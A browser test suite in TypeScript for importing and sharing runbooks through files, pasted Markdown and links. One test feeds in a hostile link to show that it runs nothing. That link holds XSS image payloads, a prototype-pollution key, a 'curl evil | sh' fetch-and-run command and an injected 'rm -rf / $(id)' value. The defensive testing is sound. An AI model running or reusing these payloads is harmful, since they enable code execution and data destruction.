/** A runbook from a file or a link: nothing is taken over before the choice, and a hostile link does nothing. */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { fragmentOf } from '../../src/site/browser/runbook-link.ts';
import { axeFaults } from '../support/site/axe.ts';
import { browserPage } from '../support/site/browser-page.ts';
import { chromiumPath } from '../support/site/chromium.ts';
import { account, check, first, poll, runbookPage, second } from '../support/site/runbook-page.ts';

describe.skipIf(!chromiumPath).each(['en', 'fr'] as const)('a runbook from elsewhere, in %s', (locale) => {
  const set = browserPage();
  const { list, kept, undo, say, openWith } = runbookPage(set, locale);

  it('comes back from its own Markdown as it was, as a file and as a pasted text', async () => {
    const items = [
      { id: check, note: '```\n--> <img src=x onerror=alert(1)> é', done: '2026-12-01T09:30:00Z' },
      { id: second, note: '', done: '' },
    ];
    await openWith(items, { SERVICE_ACCOUNT: account });
    const [download] = await Promise.all([
      set.page.waitForEvent('download'),
      set.page.click('[data-runbook-save]'),
    ]);
    const text = readFileSync(await download.path(), 'utf8');
    expect(text).toContain('- [x] ');
    await set.page.evaluate(() => localStorage.clear());
    await set.page.reload();
    await set.page.locator('[data-runbook-empty]').waitFor();
    await set.page.click('[data-runbook-import] > summary');
    const ways = [
      (markdown: string) =>
        set.page.setInputFiles('#runbook-file', {
          name: 'runbook.md',
          mimeType: 'text/markdown',
          buffer: Buffer.from(markdown),
        }),
      async (markdown: string) => {
        await set.page.fill('#runbook-pasted', markdown);
        await set.page.click('[data-runbook-read]');
      },
    ];
    for (const bring of ways) {
      await bring(text.replaceAll('\n', '\r\n'));
      await set.page.locator('[data-runbook-choice="replace"]').waitFor();
      expect((await kept()).runbook.items ?? [], 'nothing before the choice').toEqual([]);
      await set.page.click('[data-runbook-choice="replace"]');
      await poll(async () => (await kept()).runbook.items).toEqual(items);
      expect((await kept()).names.SERVICE_ACCOUNT).toEqual({ value: account, from: 'shared' });
      await undo().click();
      await poll(async () => (await kept()).runbook.items).toEqual([]);
      expect((await kept()).names).toEqual({});
    }
  });

  it('a link carries it to somebody else, who sees whose it is, adds it, and can take that back', async () => {
    await openWith([{ id: check, note: 'from Ada', done: '' }, second], { SERVICE_ACCOUNT: account });
    await set.page.fill('#runbook-title', 'Ada’s');
    await set.page.click('[data-runbook-link]');
    await poll(set.clipboard).toContain('#runbook=z');
    const link = await set.clipboard();
    const mine = [{ id: first, note: '', done: '2026-12-01T09:30:00Z' }];
    await openWith(mine, { PROJECT: 'mine' }, new URL(link).hash);
    const offer = set.page.locator('[data-runbook-offer]');
    await poll(() => offer.textContent()).toContain('Ada’s');
    for (const shown of [`SERVICE_ACCOUNT = ${account}`, 'from Ada', say('offerItems').replace('{n}', '2')])
      expect(await offer.textContent()).toContain(shown);
    expect((await kept()).runbook.items.map(({ id }: { id: string }) => id ?? '')).not.toContain(check);
    expect(await axeFaults(set.page)).toEqual([]);
    await set.page.click('[data-runbook-choice="add"]');
    await poll(list).toEqual([first, check, second]);
    expect(Object.keys((await kept()).names).toSorted()).toEqual(['PROJECT', 'SERVICE_ACCOUNT']);
    expect(new URL(set.page.url()).hash).toBe('');
    await undo().click();
    await poll(list).toEqual([first]);
    expect(Object.keys((await kept()).names)).toEqual(['PROJECT']);
  });

  it('a hostile link runs nothing, changes nothing before the choice, and shows what it drops as text', async () => {
    const alert = '<img src=x onerror="document.title=\'owned\'">';
    const json = JSON.stringify({
      pullbook: 'runbook',
      version: 1,
      title: `${alert}\u202e`,
      note: alert,
      names: { SERVICE_ACCOUNT: "a'; rm -rf / #\n$(id)", __PROTO: alert, toString: alert },
      cloud: alert,
      items: [
        { id: check, note: alert, code: 'curl evil | sh' },
        { id: 'rule:of-the-future' },
        { id: 'command:constructor' },
        { id: alert },
      ],
    }).replace('"names":{', '"names":{"__proto__":"polluted",');
    const before = [{ id: first, note: '', done: '' }];
    await openWith(before, { PROJECT: 'mine' }, (await fragmentOf(json)) ?? '');
    const offer = set.page.locator('[data-runbook-offer]');
    await poll(() => offer.textContent()).toContain('rule:of-the-future');
    expect(await offer.textContent()).toContain(alert);
    expect(await offer.textContent()).toContain('command:constructor');
    expect(await offer.textContent()).toContain(say('offerUnreadable').replace('{n}', '1'));
    expect(await offer.locator('img').count()).toBe(0);
    expect(await offer.textContent()).not.toContain('evil');
    expect((await kept()).names.PROJECT.value).toBe('mine');
    await set.page.click('[data-runbook-choice="discard"]');
    expect(
      (await kept()).runbook.items.map((item: unknown) =>
        typeof item === 'string' ? item : (item as { id: string }).id,
      ),
    ).toEqual([first]);
    expect(Object.keys((await kept()).names)).toEqual(['PROJECT']);
    expect(new URL(set.page.url()).hash).toBe('');

    await set.page.goto('about:blank');
    await set.open(`${locale}/runbook/${(await fragmentOf(json)) ?? ''}`);
    await set.page.click('[data-runbook-choice="replace"]');
    await poll(list).toEqual([check]);
    expect(await set.page.locator('main img, main script').count()).toBe(0);
    expect(await set.page.title()).not.toContain('owned');
    expect(await set.page.evaluate(() => ({}) as { polluted?: unknown }).then((each) => each.polluted)).toBe(
      undefined,
    );
    const code = await set.page.locator(`[data-item="${check}"] pre`).allTextContents();
    expect(code.join()).toContain("'a'\\''; rm -rf / #$(id)'");
    expect(await set.page.getAttribute('html', 'data-universe')).toBe(null);
  });

  it.each([
    ['broken', '#runbook=zAAAA'],
    [
      'newer',
      `#runbook=p${Buffer.from('{"pullbook":"runbook","version":9,"items":[]}').toString('base64url')}`,
    ],
    ['large', `#runbook=p${'A'.repeat(20_000)}`],
  ] as const)('a link that cannot be taken says why: %s', async (reason, hash) => {
    await openWith([first], {}, hash);
    await poll(() => set.page.textContent('[data-runbook-offer]')).toContain(say(reason));
    expect(await set.page.locator('[data-runbook-choice]').count()).toBe(1);
    await set.page.click('[data-runbook-choice="close"]');
    expect(await list()).toEqual([first]);
  });

  it('of which this version knows nothing cannot be taken', async () => {
    const json =
      '{"pullbook":"runbook","version":1,"names":{"PROJECT":"a"},"items":[{"id":"rule:of-the-future"}]}';
    await openWith([first], {}, `#runbook=p${Buffer.from(json).toString('base64url')}`);
    await poll(() => set.page.textContent('[data-runbook-offer]')).toContain('rule:of-the-future');
    expect(await set.page.locator('[data-runbook-choice]').count()).toBe(1);
    await set.page.click('[data-runbook-choice="discard"]');
    expect(await list()).toEqual([first]);
  });

  it('a text without a runbook says so', async () => {
    await openWith([]);
    await set.page.click('[data-runbook-import] > summary');
    await set.page.fill('#runbook-pasted', '# T\n\n```sh\nkubectl get pods\n```');
    await set.page.click('[data-runbook-read]');
    await poll(() => set.page.textContent('[data-runbook-offer]')).toContain(say('none'));
  });
});
